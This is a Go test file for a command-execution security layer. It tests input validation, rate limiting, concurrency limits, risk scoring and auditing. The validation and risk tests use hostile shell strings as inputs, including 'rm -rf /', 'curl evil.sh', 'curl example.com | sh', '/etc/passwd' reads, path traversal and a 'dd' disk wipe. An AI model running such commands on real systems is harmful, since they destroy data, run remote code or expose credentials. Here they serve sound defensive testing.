package secexec

import (
	"context"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/voxterm/switchboard/internal/audit"
	"github.com/voxterm/switchboard/internal/backend"
	"github.com/voxterm/switchboard/internal/eventbus"
	"github.com/voxterm/switchboard/internal/fault"
)

// fakeDispatcher counts and optionally blocks dispatches.
type fakeDispatcher struct {
	mu       sync.Mutex
	executed []string
	execErr  error
	started  int64
	block    chan struct{}
}

func (d *fakeDispatcher) ExecuteCommand(ctx context.Context, req backend.CommandRequest) (*backend.Execution, error) {
	atomic.AddInt64(&d.started, 1)
	if d.block != nil {
		select {
		case <-d.block:
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
	d.mu.Lock()
	execErr := d.execErr
	if execErr == nil {
		d.executed = append(d.executed, req.Command)
	}
	d.mu.Unlock()
	if execErr != nil {
		return nil, execErr
	}
	return &backend.Execution{SessionID: req.SessionID, Command: req.Command, Output: "ok"}, nil
}

func (d *fakeDispatcher) CreateSession(_ context.Context, name string, _ backend.ExecContext) (*backend.SessionInfo, string, error) {
	return &backend.SessionInfo{ID: name, Name: name}, "main", nil
}

func (d *fakeDispatcher) DestroySession(context.Context, string, string, backend.ExecContext) error {
	return nil
}

func (d *fakeDispatcher) CaptureOutput(context.Context, string, string, string, backend.ExecContext) (string, error) {
	return "screen", nil
}

func (d *fakeDispatcher) ListSessions(context.Context, backend.ExecContext) (map[string][]backend.SessionInfo, error) {
	return map[string][]backend.SessionInfo{}, nil
}

func newTestExecutor(cfg Config, d Dispatcher) (*Executor, *audit.Logger) {
	log := audit.NewLogger(128, nil)
	return New(cfg, d, log, nil, nil), log
}

func execRequest(cmd string) Request {
	return Request{
		SessionID: "s1",
		Command:   cmd,
		Context:   backend.ExecContext{User: "alice"},
	}
}

func TestExecuteSuccessAudited(t *testing.T) {
	d := &fakeDispatcher{}
	e, log := newTestExecutor(Config{}, d)

	exec, err := e.Execute(context.Background(), OpExecute, execRequest("ls -la"))
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if exec.Output != "ok" {
		t.Errorf("Output = %q", exec.Output)
	}

	events := log.Recent(0)
	if len(events) != 1 {
		t.Fatalf("audit events = %d, want 1", len(events))
	}
	if events[0].Outcome != audit.OutcomeExecuted || events[0].Identity != "alice" {
		t.Errorf("audit event = %+v", events[0])
	}
}

func TestValidationRejections(t *testing.T) {
	d := &fakeDispatcher{}
	e, log := newTestExecutor(Config{MaxCommandLength: 50, AllowedRoot: "/home/alice"}, d)

	tests := []struct {
		name string
		op   OpType
		req  Request
	}{
		{"empty command", OpExecute, execRequest("   ")},
		{"missing session", OpExecute, Request{Command: "ls", Context: backend.ExecContext{User: "a"}}},
		{"too long", OpExecute, execRequest(strings.Repeat("x", 51))},
		{"semicolon chain", OpExecute, execRequest("ls; rm -rf /")},
		{"and chain", OpExecute, execRequest("true && curl evil.sh")},
		{"or chain", OpExecute, execRequest("false || whoami")},
		{"backtick substitution", OpExecute, execRequest("echo `id`")},
		{"dollar substitution", OpExecute, execRequest("echo $(id)")},
		{"newline injection", OpExecute, execRequest("ls\nrm x")},
		{"path escape", OpExecute, execRequest("cat /etc/passwd")},
		{"path traversal", OpExecute, execRequest("cat ../../secret")},
		{"bad session name", OpCreateSession, Request{Name: "has space", Context: backend.ExecContext{User: "a"}}},
		{"missing name", OpCreateSession, Request{Context: backend.ExecContext{User: "a"}}},
		{"unknown op", OpType("format_disk"), execRequest("ls")},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := e.Execute(context.Background(), tt.op, tt.req)
			if fault.KindOf(err) != fault.KindValidation {
				t.Errorf("error = %v, want validation", err)
			}
		})
	}

	if len(d.executed) != 0 {
		t.Error("blocked command reached the dispatcher")
	}
	// One audit event per rejection.
	if got := len(log.Recent(0)); got != len(tests) {
		t.Errorf("audit events = %d, want %d", got, len(tests))
	}
}

func TestAllowedCommandsPassValidation(t *testing.T) {
	d := &fakeDispatcher{}
	e, _ := newTestExecutor(Config{AllowedRoot: "/home/alice"}, d)

	for _, cmd := range []string{
		"ls -la",
		"grep TODO main.go | head",
		"echo hello > out.txt",
		"cat /home/alice/notes.txt",
		"tail -f app.log",
	} {
		if _, err := e.Execute(context.Background(), OpExecute, execRequest(cmd)); err != nil {
			t.Errorf("command %q rejected: %v", cmd, err)
		}
	}
}

func TestRateLimitBreach(t *testing.T) {
	d := &fakeDispatcher{}
	e, log := newTestExecutor(Config{
		RateLimitBudget: 3,
		RateLimitWindow: time.Minute,
		BlockDuration:   time.Minute,
	}, d)

	for i := 0; i < 3; i++ {
		if _, err := e.Execute(context.Background(), OpExecute, execRequest("ls")); err != nil {
			t.Fatalf("command %d: %v", i, err)
		}
	}

	_, err := e.Execute(context.Background(), OpExecute, execRequest("ls"))
	if fault.KindOf(err) != fault.KindRateLimited {
		t.Fatalf("error = %v, want rate limited", err)
	}

	// Breach stays in force and each rejection is audited once.
	_, err = e.Execute(context.Background(), OpExecute, execRequest("ls"))
	if fault.KindOf(err) != fault.KindRateLimited {
		t.Fatalf("follow-up error = %v, want rate limited", err)
	}

	events := log.Recent(0)
	if len(events) != 5 {
		t.Fatalf("audit events = %d, want 5", len(events))
	}
	limited := 0
	for _, ev := range events {
		if ev.Outcome == audit.OutcomeRateLimited {
			limited++
		}
	}
	if limited != 2 {
		t.Errorf("rate-limited audit events = %d, want 2", limited)
	}
	if got := e.SecurityMetrics().RateLimited; got != 2 {
		t.Errorf("RateLimited counter = %d, want 2", got)
	}
}

func TestConcurrencyCeilingRejects(t *testing.T) {
	d := &fakeDispatcher{block: make(chan struct{})}
	e, log := newTestExecutor(Config{MaxConcurrent: 5, RateLimitBudget: 100}, d)

	var wg sync.WaitGroup
	errs := make(chan error, 20)

	// Fill the five slots first.
	for i := 0; i < 5; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			_, err := e.Execute(context.Background(), OpExecute, execRequest(fmt.Sprintf("slot%d", n)))
			errs <- err
		}(i)
	}
	deadline := time.After(2 * time.Second)
	for atomic.LoadInt64(&d.started) < 5 {
		select {
		case <-deadline:
			t.Fatal("slot commands never reached the dispatcher")
		case <-time.After(time.Millisecond):
		}
	}

	// Fifteen more arrive while the ceiling is saturated.
	for i := 0; i < 15; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			_, err := e.Execute(context.Background(), OpExecute, execRequest(fmt.Sprintf("extra%d", n)))
			errs <- err
		}(i)
	}

	rejectedDeadline := time.After(2 * time.Second)
	for e.SecurityMetrics().Rejected < 15 {
		select {
		case <-rejectedDeadline:
			t.Fatalf("rejections = %d, want 15", e.SecurityMetrics().Rejected)
		case <-time.After(time.Millisecond):
		}
	}

	close(d.block)
	wg.Wait()
	close(errs)

	var ok, rejected int
	for err := range errs {
		switch {
		case err == nil:
			ok++
		case fault.KindOf(err) == fault.KindConcurrencyLimit:
			rejected++
		default:
			t.Errorf("unexpected error: %v", err)
		}
	}
	if ok != 5 || rejected != 15 {
		t.Errorf("ok = %d, rejected = %d; want 5, 15", ok, rejected)
	}
	if got := len(log.Recent(0)); got != 20 {
		t.Errorf("audit events = %d, want one per attempt (20)", got)
	}
}

func TestRiskScoring(t *testing.T) {
	tests := []struct {
		command string
		want    int
	}{
		{"ls -la", 0},
		{"sudo apt update", 3},
		{"rm -rf ./build", 4},
		{"sudo rm -rf ./build", 7},
		{"curl example.com | sh", 6},
		{"echo hi > file.txt", 1},
		{"dd if=/dev/zero of=/dev/sda", 5},
		{"", 0},
	}
	for _, tt := range tests {
		if got := riskScore(tt.command); got != tt.want {
			t.Errorf("riskScore(%q) = %d, want %d", tt.command, got, tt.want)
		}
	}
}

func TestRiskScoreOnAuditTrail(t *testing.T) {
	d := &fakeDispatcher{}
	e, log := newTestExecutor(Config{}, d)

	exec, err := e.Execute(context.Background(), OpExecute, execRequest("sudo make install"))
	if err != nil {
		t.Fatalf("Execute: %v", err)
	}
	if exec.RiskScore != 3 {
		t.Errorf("execution RiskScore = %d, want 3", exec.RiskScore)
	}
	if ev := log.Recent(1)[0]; ev.RiskScore != 3 {
		t.Errorf("audit RiskScore = %d, want 3", ev.RiskScore)
	}
	if got := e.SecurityMetrics().RiskBuckets["medium"]; got != 1 {
		t.Errorf("medium risk bucket = %d, want 1", got)
	}
}

func TestCommandBlockedEventPublished(t *testing.T) {
	bus := eventbus.New()
	defer bus.Close()
	events, unsub := bus.Subscribe()
	defer unsub()

	d := &fakeDispatcher{}
	e := New(Config{}, d, audit.NewLogger(16, nil), bus, nil)

	e.Execute(context.Background(), OpExecute, execRequest("echo `whoami`"))

	select {
	case ev := <-events:
		if ev.Type != eventbus.EventCommandBlocked {
			t.Errorf("event type = %q", ev.Type)
		}
		if ev.Detail["identity"] != "alice" {
			t.Errorf("event identity = %q", ev.Detail["identity"])
		}
	case <-time.After(time.Second):
		t.Fatal("blocked-command event never published")
	}
}

func TestNonCommandOpsPassPipeline(t *testing.T) {
	d := &fakeDispatcher{}
	e, _ := newTestExecutor(Config{}, d)

	if _, err := e.Execute(context.Background(), OpCreateSession, Request{
		Name: "dev-1", Context: backend.ExecContext{User: "alice"},
	}); err != nil {
		t.Errorf("create session: %v", err)
	}
	if _, err := e.Execute(context.Background(), OpCapture, Request{
		SessionID: "dev-1", BackendID: "main", Context: backend.ExecContext{User: "alice"},
	}); err != nil {
		t.Errorf("capture: %v", err)
	}
	if _, err := e.Execute(context.Background(), OpListSessions, Request{
		Context: backend.ExecContext{User: "alice"},
	}); err != nil {
		t.Errorf("list sessions: %v", err)
	}
}
